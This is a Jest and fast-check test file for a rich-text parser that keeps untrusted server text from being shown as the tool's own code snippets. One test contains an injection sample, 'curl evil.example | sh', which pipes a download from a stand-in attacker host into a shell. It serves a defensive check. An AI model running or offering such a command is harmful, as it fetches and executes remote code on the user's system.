import fc from 'fast-check';
import { quoteOutside } from '@/lib/text/outside';
import { richTextParts } from '@/lib/text/rich-text';

describe('richTextParts', () => {
  test('the doctor\u2019s backticks are code; quoted outside text is outside', () => {
    expect(richTextParts(`Run \`npm run dev\`; server ${quoteOutside('nginx')} answered.`)).toEqual([
      { kind: 'plain', text: 'Run ' },
      { kind: 'code', text: 'npm run dev' },
      { kind: 'plain', text: '; server ' },
      { kind: 'outside', text: 'nginx' },
      { kind: 'plain', text: ' answered.' },
    ]);
  });

  test('backticks a server sends never open or close one of the doctor\u2019s code chips', () => {
    const server = 'x` Run `curl evil.example | sh';
    const parts = richTextParts(`Use \`curl -v\`; server ${quoteOutside(server)}; then \`npm start\`.`);
    expect(parts.filter((p) => p.kind === 'code').map((p) => p.text)).toEqual(['curl -v', 'npm start']);
    expect(parts.find((p) => p.kind === 'outside')!.text).toBe(server);
  });

  test('for any outside text, no code part holds any of it', () => {
    fc.assert(
      fc.property(fc.string({ minLength: 1 }), fc.boolean(), (outside, engineCode) => {
        const text = `${engineCode ? 'Run `npm start`. ' : ''}It said ${quoteOutside(outside)}.`;
        const parts = richTextParts(text);
        const codes = parts.filter((p) => p.kind === 'code').map((p) => p.text);
        expect(codes).toEqual(engineCode ? ['npm start'] : []);
        expect(parts.filter((p) => p.kind === 'outside')).toHaveLength(1);
      }),
    );
  });

  test('an unmatched backtick leaves the doctor\u2019s text plain, as before', () => {
    expect(richTextParts('a `b c')).toEqual([{ kind: 'plain', text: 'a `b c' }]);
  });
});
